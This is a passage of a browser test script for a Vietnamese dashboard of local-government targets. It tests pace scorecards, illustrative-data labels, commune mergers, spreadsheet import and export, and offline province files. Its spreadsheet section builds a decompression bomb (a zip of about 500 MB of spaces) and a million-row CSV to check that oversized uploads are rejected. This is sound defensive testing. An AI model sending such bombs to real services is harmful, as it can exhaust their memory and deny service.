  check('install: the first Tab stop is a visible skip link to the main content', skip.text === 'Chuyển đến nội dung chính' && skip.visible && skip.target === '#content', JSON.stringify(skip));
  check('install: no console errors', problems.length === 0, problems.join('; '));
  await context.close();
});

await section('pace', async () => {
  // The illustrative province: labelled everywhere, pace where status is shown, mergers.
  const il = '&data=data/illustrative.json';
  {
    const { context, page, problems } = await open('?view=overview&unit=son-lam&term=2025-2030' + il);
    const info = await page.evaluate(() => ({
      banner: document.querySelector('.illustrative-banner')?.textContent ?? '',
      sentence: document.querySelector('#content figcaption, #content .chart-caption')?.textContent ?? document.querySelector('#content')?.innerText ?? '',
      footers: [...document.querySelectorAll('#content svg')].filter((svg) => svg.textContent.includes('Dữ liệu minh họa')).length,
      charts: document.querySelectorAll('#content svg').length,
      paceFilter: document.querySelector('#pace') !== null,
    }));
    check('illustrative: the banner says the figures are made up', info.banner.includes('không phải số liệu thật'), info.banner);
    check('illustrative: every chart carries the label', info.charts > 0 && info.footers === info.charts, `${info.footers}/${info.charts}`);
    check('pace: the 2025-2030 scorecard is split by pace', /Tiến độ 7 chỉ tiêu còn trong hạn: 3 đúng tiến độ, 1 chậm tiến độ/.test(info.sentence), info.sentence.slice(0, 300));
    check('pace: the pace filter is offered', info.paceFilter);
    await page.selectOption('#pace', 'far_behind');
    await page.waitForFunction(() => location.search.includes('pace=far_behind'));
    const rows = await page.evaluate(() => [...document.querySelectorAll('.indicator-list tbody tr')].map((row) => row.textContent));
    check('pace: filtering by pace keeps only those targets', rows.length === 1 && /chậm nhiều/.test(rows[0]), rows.join(' | '));
    // An average given year by year is listed as the average judged, as its detail shows it.
    await page.goto(`${base}?view=overview&unit=tan-hoa&term=2025-2030${il}`);
    await page.waitForFunction(() => document.documentElement.dataset.state === 'ready');
    const grain = await page.evaluate(() => [...document.querySelectorAll('.indicator-list tbody tr')].map((row) => row.textContent).find((text) => text.includes('lương thực')) ?? '');
    check('pace: the list shows a yearly average as the average judged', grain.includes('bình quân 2 năm: 5.310'), grain);
    check('pace: no console errors', problems.length === 0, problems.join('; '));
    await context.close();
  }
  {
    const context = await browser.newContext({ viewport: { width: 1920, height: 1080 }, acceptDownloads: true });
    const page = await context.newPage();
    await page.goto(`${base}?view=indicator&unit=tan-hoa&term=2025-2030&indicator=income-per-capita${il}`);
    await page.waitForFunction(() => document.documentElement.dataset.state === 'ready');
    const bullet = await page.evaluate(() => document.querySelector('#bullet-chart svg')?.textContent ?? '');
    check('pace: the bullet graph marks the value expected by now', bullet.includes('Mức cần có theo tiến độ (2026): 67,6'), bullet.slice(0, 300));
    const across = await page.evaluate(() => [...document.querySelectorAll('svg')].map((svg) => svg.textContent).find((text) => text.includes('Xã Hòa Thắng, 2020-2025')) ?? '');
    check('mergers: the across-terms chart names each predecessor', ['Xã Hòa Thắng', 'Xã Tân Phong', 'Xã Tân Mỹ', 'Xã Hòa Nam'].every((name) => across.includes(`${name}, 2020-2025`)), across.slice(0, 200));
    await page.click('#bullet-chart summary');
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#bullet-chart button:has-text("Tải CSV")')]);
    const csv = fs.readFileSync(await download.path(), 'utf8');
    check('illustrative: the CSV export says so, in its notes under the table', csv.split(/\r\n\r\n/)[1]?.split(/\r\n/).includes('Dữ liệu minh họa — không phải số liệu thật'), csv.slice(-200));
    await context.close();
  }
  {
    const { context, page } = await open('?unit=hoa-thang&term=2025-2030' + il);
    const notice = await page.evaluate(() => document.querySelector('.lineage')?.textContent ?? '');
    check('mergers: a pre-merger commune opens with its successor named', notice.includes('đã sáp nhập vào Xã Tân Hòa (từ 01/07/2025)'), notice);
    await page.click('.lineage a');
    await page.waitForFunction(() => location.search.includes('unit=tan-hoa') && document.documentElement.dataset.state === 'ready', null, { timeout: 10000 }).catch(() => {});
    const opened = await page.evaluate(() => document.querySelector('.lineage')?.textContent ?? '');
    check('mergers: its link opens the successor', page.url().includes('unit=tan-hoa') && opened.includes('được hình thành'), `${page.url()} ${opened}`);
    await context.close();
  }
  {
    const { context, page } = await open('?mode=present&slide=2' + il, { width: 3840, height: 2160 });
    const text = await page.evaluate(() => document.querySelector('.stage svg')?.textContent ?? '');
    check('illustrative: slides say so (3840×2160)', text.includes('Dữ liệu minh họa — không phải số liệu thật'), text.slice(0, 120));
    await page.screenshot({ path: path.join(shots, 'illustrative-slide-2-3840x2160.png') });
    await context.close();
  }
  {
    const { context, page } = await open('?view=overview');
    const link = await page.evaluate(() => document.querySelector('#switch-data')?.getAttribute('href') ?? '');
    check('illustrative: the default data offers the illustrative province', link.includes('data=data%2Fillustrative.json') || link.includes('data=data/illustrative.json'), link);
    const banner = await page.evaluate(() => document.querySelector('.illustrative-banner') !== null);
    check('illustrative: real data has no illustrative banner', !banner);
    await page.click('#switch-data');
    await page.waitForFunction(() => document.documentElement.dataset.state === 'ready' && location.search.includes('illustrative'), null, { timeout: 10000 }).catch(() => {});
    const opened = await page.evaluate(() => document.querySelector('#content')?.innerText.slice(0, 400) ?? '');
    check('illustrative: it opens on a 2025-2030 scorecard split by pace', /2025-2030, .*Tiến độ \d+ chỉ tiêu còn trong hạn/s.test(opened), opened.slice(0, 200));
    await context.close();
  }
});

await section('sheets', async () => {
  // Spreadsheets in and out, through the spreadsheet worker: a workbook LibreOffice filled in, the
  // dataset exported and opened again, pasted cells, the template, and bad files that each get a
  // located message while the data on screen stays.
  const context = await browser.newContext({ viewport: { width: 1366, height: 768 }, acceptDownloads: true });
  const page = await context.newPage();
  const problems = [];
  page.on('pageerror', (error) => problems.push(`pageerror: ${error.message}`));
  page.on('console', (message) => { if (['error', 'warning'].includes(message.type())) problems.push(message.text()); });
  const workerRequests = [];
  page.on('request', (request) => { if (request.url().includes('chitieu-sheet-worker')) workerRequests.push(request.url()); });
  await page.goto(`${base}?view=overview`);
  await page.waitForFunction(() => document.documentElement.dataset.state === 'ready');
  check('the spreadsheet worker is not fetched for the first screen', workerRequests.length === 0, workerRequests.join(', '));
  const screenText = () => page.evaluate(() => {
    const region = document.querySelector('main') ?? document.querySelector('.app');
    return [...region.querySelectorAll('h1, h2, h3, td, th, svg text, p')].map((node) => node.textContent.trim()).join('\n');
  });
  const menu = async () => { if (!(await page.locator('.sheet-menu').getAttribute('open') !== null)) await page.click('.sheet-menu summary'); };
  const download = async (id) => {
    await menu();
    const [file] = await Promise.all([page.waitForEvent('download', { timeout: 20000 }), page.click(`#${id}`)]);
    return { name: file.suggestedFilename(), bytes: fs.readFileSync(await file.path()) };
  };
  const openFile = async (name, buffer) => {
    await page.setInputFiles('#open-file', { name, mimeType: 'application/octet-stream', buffer });
  };
  const h1 = () => page.locator('h1').first().textContent();

  // A workbook made by LibreOffice from the template.
  const fixturesDir = path.resolve('crates/chitieu-sheet/tests/libreoffice');
  for (const file of ['dien-tay.xlsx', 'dien-tay.ods', 'dien-tay.xls']) {
    await page.goto(`${base}?view=overview`);
    await page.waitForFunction(() => document.documentElement.dataset.state === 'ready');
    const started = Date.now();
    await openFile(file, fs.readFileSync(path.join(fixturesDir, file)));
    await page.waitForFunction(() => document.querySelector('h1')?.textContent.includes('Ví Dụ'), null, { timeout: 20000 }).catch(() => {});
    const title = await h1();
    check(`${file} (filled in LibreOffice) opens in the app`, title.includes('Ví Dụ'), `${title} after ${Date.now() - started} ms`);
    const places = await page.locator('#locality option, #place option, select option').allTextContents();
    check(`${file}: its localities are offered`, places.some((text) => text.includes('Kbang')) && places.some((text) => text.includes('Bến Sung')), places.slice(0, 6).join(' | '));
  }
  await page.screenshot({ path: path.join(shots, 'sheets-libreoffice.png') });

  // Export the default dataset as a workbook, open it again: the same screens.
  await page.goto(`${base}?view=overview`);
  await page.waitForFunction(() => document.documentElement.dataset.state === 'ready');
  const before = await screenText();
  const exported = await download('export-xlsx');
  check('the data downloads as a workbook named after the dataset', exported.name === 'default.xlsx' && exported.bytes.subarray(0, 2).toString() === 'PK', exported.name);
  // Another dataset first, so that seeing the default's title again proves the workbook was read.
  const defaultTitle = await h1();
  const other = JSON.parse(defaultText);
  other.title = { vi: 'Bộ dữ liệu khác', en: 'Another dataset' };
  await openFile('khac.json', Buffer.from(JSON.stringify(other)));
  await page.waitForFunction(() => document.querySelector('h1')?.textContent === 'Bộ dữ liệu khác');
  await openFile('default.xlsx', exported.bytes);
  await page.waitForFunction((title) => document.querySelector('h1')?.textContent === title, defaultTitle, { timeout: 20000 }).catch(() => {});
  check('the exported workbook opens (the title comes back)', (await h1()) === defaultTitle, await h1());
  await page.waitForTimeout(300);
  const after = await screenText();
  check('the exported workbook opened again shows the same overview', before === after && before.length > 200, `${before.length} vs ${after.length} chars`);
  for (const view of ['ranking', 'indicator', 'compare']) {
    await page.click(`#tab-${view}`);
    await page.waitForTimeout(300);
    const reopened = await screenText();
    const fresh = await context.newPage();
    await fresh.goto(`${base}?view=${view}`);
    await fresh.waitForFunction(() => document.documentElement.dataset.state === 'ready');
    const original = await fresh.evaluate(() => {
      const region = document.querySelector('main') ?? document.querySelector('.app');
      return [...region.querySelectorAll('h1, h2, h3, td, th, svg text, p')].map((node) => node.textContent.trim()).join('\n');
    });
    await fresh.close();
    check(`the reopened workbook's ${view} view equals the original's`, reopened === original, `${reopened.length} vs ${original.length} chars`);
  }

  // A table on screen as a workbook: number cells, not text.
  await page.goto(`${base}?view=ranking`);
  await page.waitForFunction(() => document.documentElement.dataset.state === 'ready');
  await page.click('#ranking-chart summary');
  const [tableFile] = await Promise.all([page.waitForEvent('download', { timeout: 20000 }), page.click('#ranking-chart button:has-text("Tải XLSX")')]);
  const tableBytes = fs.readFileSync(await tableFile.path());
  const tableRows = await page.locator('#ranking-chart tbody tr').count();
  const tablePath = await tableFile.path();
  const cellKinds = await new Promise((resolve) => {
    import('node:child_process').then(({ execFile }) => execFile('python3', ['-c',
      "import sys,zipfile,re\nx=zipfile.ZipFile(sys.argv[1]).read('xl/worksheets/sheet1.xml').decode()\ncells=re.findall(r'<c r=\"([A-Z]+)(\\d+)\"([^>]*)>', x)\nprint(sum(1 for c in cells if 't=' not in c[2]), sum(1 for c in cells if 't=' in c[2]), max(int(c[1]) for c in cells))",
      tablePath], (error, stdout) => resolve(error ? String(error) : stdout.trim())));
  });
  const [numbers, texts, lastRow] = String(cellKinds).split(' ').map(Number);
  // The header, a row per table row, then five notes: the chart's title, its sources, the data
  // date, which figures are estimates, and which targets were derived from a result.
  check('a table downloads as a workbook of number cells, one row per table row, then its title, sources, date and the estimates and derived targets named', tableFile.suggestedFilename() === 'ben-sung-2020-2025-ranking.xlsx' && tableBytes.subarray(0, 2).toString() === 'PK' && numbers >= tableRows * 3 && lastRow === tableRows + 6, `${tableFile.suggestedFilename()}: ${cellKinds}, ${tableRows} rows`);

  // The template.
  const template = await download('download-template');
  check('the template downloads as a workbook', template.name === 'mau-bang-tinh-chi-tieu.xlsx' && template.bytes.subarray(0, 2).toString() === 'PK', template.name);
  await openFile(template.name, template.bytes);
  await page.waitForFunction(() => document.querySelector('h1')?.textContent.includes('xã Ví Dụ'), null, { timeout: 20000 }).catch(() => {});
  check('the template opens as its example rows', (await h1()).includes('xã Ví Dụ'), await h1());

  // Cells pasted from a spreadsheet (tab-separated), with numbers typed the Vietnamese way.
  await page.goto(`${base}?view=overview`);
  await page.waitForFunction(() => document.documentElement.dataset.state === 'ready');
  await menu();
  const pasted = ['Đơn vị\tNhiệm kỳ\tLĩnh vực\tChỉ tiêu\tĐơn vị tính\tChiều\tLoại chỉ tiêu\tSố liệu là\tDạng mục tiêu\tGiá trị\tNăm\tNguồn\tTrích dẫn',
    'Xã Dán Thử\t2025-2030\tKinh tế\tThu nhập bình quân\ttriệu đồng\tCàng cao càng tốt\tSố lượng, giá trị\tMục tiêu\tĐạt mức\t90\t\tNghị quyết\tThu nhập đạt 90 triệu đồng.',
    'Xã Dán Thử\t2025-2030\t\tThu nhập bình quân\t\t\t\tKết quả\t\tước 68,5\t2026\tBáo cáo\tƯớc đạt 68,5 triệu đồng.',
    'Xã Dán Thử\t2025-2030\tXã hội\tSố hộ được hỗ trợ\thộ\tCàng cao càng tốt\tSố đếm\tMục tiêu\tĐạt mức\t1.250\t\tNghị quyết\tHỗ trợ 1.250 hộ.'].join('\n');
  await page.fill('#paste-box', pasted);
  await page.click('#read-pasted');
  await page.waitForFunction(() => document.querySelector('.rejected'), null, { timeout: 20000 }).catch(() => {});
  const pastedNotes = await page.locator('.rejected').textContent().catch(() => '');
  check('pasted cells open, and a number that reads two ways is shown as read', pastedNotes.includes("đã đọc '1.250' là số nguyên 1250") && pastedNotes.includes('Đã mở tệp'), pastedNotes.slice(0, 300));
  const pastedText = await screenText();
  check('pasted cells: the pasted locality is on screen', pastedText.includes('Dán Thử') || (await page.locator('select').allTextContents()).join(' ').includes('Dán Thử'));
  await page.screenshot({ path: path.join(shots, 'sheets-pasted.png') });

  // Bad files: each gets its message, located, and the data on screen stays.
  await page.goto(`${base}?view=overview`);
  await page.waitForFunction(() => document.documentElement.dataset.state === 'ready');
  const shownTitle = await h1();
  const badRow = 'Xã A\t2025-2030\tKinh tế\tThu nhập\ttriệu đồng\tCàng cao càng tốt\tSố lượng, giá trị\tMục tiêu\tĐạt mức\t12,5 tỷ\t\tNQ\tThu nhập 12,5 tỷ.';
  const header = pasted.split('\n')[0];
  const zipBomb = path.join(shots, 'bomb.xlsx');
  await new Promise((resolve, reject) => {
    const python = `import zipfile\nwith zipfile.ZipFile(${JSON.stringify(zipBomb)}, 'w', zipfile.ZIP_DEFLATED) as z:\n    z.writestr('[Content_Types].xml', '<Types/>')\n    with z.open('xl/worksheets/sheet1.xml', 'w', force_zip64=True) as f:\n        block = b' ' * (1 << 20)\n        for _ in range(500): f.write(block)\n`;
    import('node:child_process').then(({ execFile }) => execFile('python3', ['-c', python], (error) => error ? reject(error) : resolve()));
  });
  const million = [header, ...Array.from({ length: 1_000_000 }, (_, index) => `Xã ${index}\t2025-2030`)].join('\n');
  const cases = [
    ['trong.xlsx', Buffer.alloc(0), 'Tệp trống'],
    ['anh-doi-ten.xlsx', Buffer.from('\x89PNG\r\n\x1a\n not a spreadsheet at all'), 'không phải bảng tính'],
    ['hong.xlsx', Buffer.from('PK\x03\x04 broken zip'), 'không phải bảng tính'],
    ['bom.xlsx', fs.readFileSync(zipBomb), 'quá giới hạn'],
    ['trieu-dong.csv', Buffer.from(million), 'quá giới hạn 300.000 dòng'],
    ['mat-khau.xlsx', fs.readFileSync('crates/chitieu-sheet/tests/files/mat-khau.xlsx'), 'có mật khẩu'],
    ['tcvn3.csv', Buffer.from([...Buffer.from('Don vi,Nhiem ky\n'), 0xb8, 0xe3, 0x20, 0xd5, 0x0a]), 'không ở mã UTF-8'],
    ['sai-so.csv', Buffer.from(`${header}\n${badRow}\n`), "Trang 'sai-so', dòng 2, cột J (Giá trị): cần một số, gặp '12,5 tỷ' — hãy ghi 12,5 và ghi 'tỷ' ở cột Đơn vị tính"],
  ];
  for (const [name, buffer, message] of cases) {
    await page.evaluate(() => document.querySelector('.rejected button')?.click());
    await openFile(name, buffer);
    await page.waitForFunction((name) => document.querySelector('.rejected')?.textContent.includes(name), name, { timeout: 30000 }).catch(() => {});
    const text = await page.locator('.rejected').textContent().catch(() => '');
    check(`bad file ${name}: "${message}"`, text.includes(message), text.slice(0, 300));
    check(`bad file ${name}: the data on screen stays`, (await h1()) === shownTitle);
  }
  await page.screenshot({ path: path.join(shots, 'sheets-bad-file.png') });
  fs.rmSync(zipBomb, { force: true });
  check('spreadsheets: no page errors or console warnings (the worker among them)', problems.length === 0, problems.join('; '));
  await context.close();
});

await section('memory', async () => {
  // Kiosk memory benchmark: 2,000 slide changes, JS heap and wasm memory sampled (numbers, not a pass/fail).
  const { context, page } = await open('?mode=present', { width: 1920, height: 1080 });
  // A full collection before each sample, so the numbers are what is retained, not collector timing.
  const sample = () => page.evaluate(() => {
    window.gc?.();
    return { heap: performance.memory?.usedJSHeapSize ?? 0, wasm: window.wasmBindings?.wasm_memory_bytes?.() ?? 0 };
  });
  const samples = [];
  const started = Date.now();
  for (let change = 0; change <= 2000; change += 1) {
    if (change % 500 === 0) {
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0))));
      samples.push({ change, ...(await sample()) });
    }
    await page.keyboard.press('ArrowRight');
  }
  const mb = (bytes) => (bytes / 1048576).toFixed(2);
  console.log(`info kiosk memory over 2000 slide changes (${((Date.now() - started) / 1000).toFixed(0)} s): ` + samples.map((s) => `${s.change}: heap ${mb(s.heap)} MB, wasm ${mb(s.wasm)} MB`).join('; '));
  console.log(`info kiosk memory growth 500→2000 changes: heap ${mb(samples[4].heap - samples[1].heap)} MB, wasm ${mb(samples[4].wasm - samples[1].wasm)} MB`);
  await context.close();
});

await section('split', async () => {
  // The index opens the part of the place asked for; the province picker and the chart of every
  // province open another part; each part's figures are its own.
  const { context, page, problems } = await open('?data=fixtures/split/index.json&unit=b-hoa-nam&term=2020-2025', { width: 1366, height: 768 });
  const shown = () => page.evaluate(() => ({
    state: document.documentElement.dataset.state,
    picker: document.querySelector('#unit-term')?.value,
    others: [...document.querySelectorAll('#unit-term optgroup')].at(-1)?.label,
    options: [...document.querySelectorAll('#unit-term option')].filter((option) => option.value.startsWith('part|')).map((option) => `${option.value}=${option.textContent}`),
    title: document.querySelector('#ranking-chart .chart-title')?.textContent ?? '',
    unit: new URLSearchParams(location.search).get('unit'),
  }));
  let info = await shown();
  check('split: a link to a place opens the part that holds it', info.state === 'ready' && info.picker === 'b-hoa-nam|2020-2025' && info.title.includes('Hòa Nam'), JSON.stringify(info));
  check('split: the place picker offers the other provinces', info.others === 'Tỉnh, thành khác' && info.options.join() === 'part|minh-son=Minh Sơn', JSON.stringify(info));
  await page.screenshot({ path: path.join(shots, 'split-part.png') });
  // The other province, from the picker: its own file, on its most informative place.
  await page.selectOption('#unit-term', 'part|minh-son');
  await page.waitForFunction(() => !document.querySelector('#unit-term').value.startsWith('b-') && document.querySelector('#unit-term').value.includes('|'), null, { timeout: 10000 }).catch(() => {});
  info = await shown();
  check('split: choosing a province opens its part on one of its places, in the same term, named in the URL', !info.picker.startsWith('b-') && info.picker.endsWith('|2020-2025')
    && info.unit === info.picker.split('|')[0] && info.options.join() === 'part|b-minh-son=Lâm Hà', JSON.stringify(info));
  const notices = await page.evaluate(() => document.querySelector('.notices')?.textContent ?? '');
  check('split: a province chosen raises no notice', !notices.includes('Minh Sơn'), notices);
  const fetched = await page.evaluate(() => performance.getEntriesByType('resource').map((entry) => new URL(entry.name).pathname).filter((name) => name.startsWith('/fixtures/split/')));
  check('split: the page fetched the index and the parts on screen only', fetched.includes('/fixtures/split/tinh/minh-son.json') && fetched.includes('/fixtures/split/tinh/lam-ha.json') && fetched.every((name) => name.endsWith('.json')), JSON.stringify(fetched));
  // All places: every province from its index counts, the one on screen apart; a click opens one.
  await page.click('#tab-places');
  await page.waitForSelector('#provinces-chart svg', { timeout: 10000 }).catch(() => {});
  const national = await page.evaluate(() => ({
    title: document.querySelector('#provinces-chart .chart-title')?.textContent,
    caption: document.querySelector('#provinces-chart figcaption')?.textContent,
    marks: document.querySelectorAll('#provinces-chart svg rect').length,
  }));
  check('split: all places adds every province, from the counts its index carries', national.title === 'Hai tỉnh minh họa, 2020-2025: 1/2 địa phương cùng cấp đạt từ nửa số chỉ tiêu đến hạn trở lên'
    && national.caption.includes('Cả 2 nơi: 72/150 chỉ tiêu đến hạn đạt, 22 vượt.'), JSON.stringify(national));
  await page.screenshot({ path: path.join(shots, 'split-provinces.png'), fullPage: true });
  const source = await page.evaluate(() => document.querySelector('#provinces-chart .chart-source')?.textContent);
  check('split: the provinces\' counts are credited to the index', source === 'Nguồn: tệp chỉ mục (số đếm từ tệp của từng tỉnh)', source);
  await page.click('#provinces-chart .table-twin summary');
  await page.waitForFunction(() => document.querySelectorAll('#provinces-chart .data-table tbody tr').length > 0, null, { timeout: 5000 }).catch(() => {});
  const rows = await page.evaluate(() => [...document.querySelectorAll('#provinces-chart .data-table tbody tr')].map((row) => [...row.cells].map((cell) => cell.textContent).join('|')));
  check('split: the provinces\' table twin lists each with its counts', rows.join(';') === 'Minh Sơn|60|75|80;Lâm Hà|12|75|16', JSON.stringify(rows));
  await page.focus('#provinces-chart .chart-host');
  await page.keyboard.press('ArrowRight');
  const focusedName = await page.evaluate(() => document.querySelector('#provinces-chart .tooltip')?.textContent ?? '');
  if (focusedName.startsWith('Minh Sơn')) await page.keyboard.press('ArrowRight');
  await page.keyboard.press('Enter');
  await page.waitForFunction(() => document.querySelector('#unit-term')?.value.startsWith('b-'), null, { timeout: 10000 }).catch(() => {});
  info = await shown();
  check('split: a province chosen on the chart opens its part', info.picker?.startsWith('b-') && info.unit?.startsWith('b-'), JSON.stringify(info));
  // A reload opens the same part and place.
  await page.reload();
  await waitReady(page);
  const again = await shown();
  check('split: a reload opens the same province and place', again.picker === info.picker, JSON.stringify({ again, info }));
  check('split: no console errors', problems.length === 0, problems.join('; '));
  await context.close();
  // A kiosk of one province's place: its own part's slides.
  const kiosk = await open('?mode=kiosk&interval=15&data=fixtures/split/index.json&unit=b-hoa-nam', { width: 1920, height: 1080 });
  const slide = await kiosk.page.evaluate(() => ({ state: document.documentElement.dataset.state, text: document.querySelector('.stage .slide svg')?.textContent ?? '' }));
  check('split: a kiosk shows its province\'s place', slide.state === 'ready' && slide.text.includes('tỉnh Lâm Hà') && slide.text.includes('Xã Hòa Nam, 2020-2025'), JSON.stringify(slide).slice(0, 300));
  await kiosk.page.screenshot({ path: path.join(shots, 'split-kiosk.png') });
  check('split: the kiosk has no console errors', kiosk.problems.length === 0, kiosk.problems.join('; '));
  await kiosk.context.close();
  // A province whose file is not there: the province on screen stays, and the page says why.
  const gone = await open('?data=fixtures/split/gone.json&unit=hoa-nam&term=2020-2025', { width: 1366, height: 768 });
  await gone.page.selectOption('#unit-term', 'part|gone');
  await gone.page.waitForSelector('.rejected', { timeout: 15000 }).catch(() => {});
  const stayed = await gone.page.evaluate(() => ({ picker: document.querySelector('#unit-term')?.value, unit: new URLSearchParams(location.search).get('unit'),
    rejected: document.querySelector('.rejected')?.textContent ?? '' }));
  check('split: a province whose file is missing leaves the one on screen, saying why', stayed.picker === 'hoa-nam|2020-2025' && stayed.unit === 'hoa-nam' && stayed.rejected.includes('khong-co.json'), JSON.stringify(stayed));
  await gone.page.screenshot({ path: path.join(shots, 'split-missing-part.png') });
  await gone.context.close();
  // Offline: each province visited opens again with the server stopped.
  {
    const own = await startServer(dist, fixtures);
    const offline = await browser.newContext({ viewport: { width: 1366, height: 768 } });
    const visit = await offline.newPage();
    await visit.goto(`${own.base}?data=fixtures/split/index.json&unit=b-hoa-nam&term=2020-2025`);
    await visit.waitForFunction(() => document.documentElement.dataset.state === 'ready' && document.documentElement.dataset.kept === 'true', null, { timeout: 20000 });
    await visit.evaluate(() => Promise.race([navigator.serviceWorker.ready, new Promise((resolve) => setTimeout(resolve, 15000))]));
    await visit.waitForFunction(() => navigator.serviceWorker.controller !== null, null, { timeout: 10000 }).catch(() => {});
    if (!(await visit.evaluate(() => navigator.serviceWorker.controller !== null))) { await visit.reload(); await waitReady(visit); }
    await visit.selectOption('#unit-term', 'part|minh-son');
    await visit.waitForFunction(() => !document.querySelector('#unit-term').value.startsWith('b-') && document.querySelector('#unit-term').value.includes('|'), null, { timeout: 10000 }).catch(() => {});
    await visit.waitForTimeout(1000);
    own.server.closeAllConnections();
    await new Promise((resolve) => own.server.close(resolve));
    await visit.goto(`${own.base}?data=fixtures/split/index.json&unit=b-hoa-nam&term=2020-2025`).catch(() => {});
    await waitReady(visit, 30000).catch(() => {});
    const first = await visit.evaluate(() => ({ state: document.documentElement.dataset.state, picker: document.querySelector('#unit-term')?.value, stale: !!document.querySelector('.stale-notice, .stale-stamp') }));
    await visit.goto(`${own.base}?data=fixtures/split/index.json&unit=hoa-nam&term=2020-2025`).catch(() => {});
    await waitReady(visit, 30000).catch(() => {});
    const second = await visit.evaluate(() => ({ state: document.documentElement.dataset.state, picker: document.querySelector('#unit-term')?.value }));
    check('split offline: each province visited opens with the server stopped, stamped as a kept copy', first.state === 'ready' && first.picker === 'b-hoa-nam|2020-2025' && first.stale
      && second.state === 'ready' && second.picker === 'hoa-nam|2020-2025', JSON.stringify({ first, second }));
    await offline.close();
  }
  // A link to nothing the index knows opens the first part, and says the place is not there.
  const unknown = await open('?data=fixtures/split/index.json&unit=nowhere', { width: 1366, height: 768 });
  const first = await unknown.page.evaluate(() => ({ picker: document.querySelector('#unit-term')?.value, notice: document.querySelector('.notices')?.textContent ?? '' }));
  check('split: an unknown place opens the first part with a notice', first.picker && !first.picker.startsWith('b-') && first.notice.includes('nowhere'), JSON.stringify(first));
  await unknown.context.close();
});

await browser.close();
server.close();
console.log(`screenshots in ${shots}`);
console.log(`${passed} passed, ${failed} failed`);
process.exit(failed === 0 ? 0 : 1);
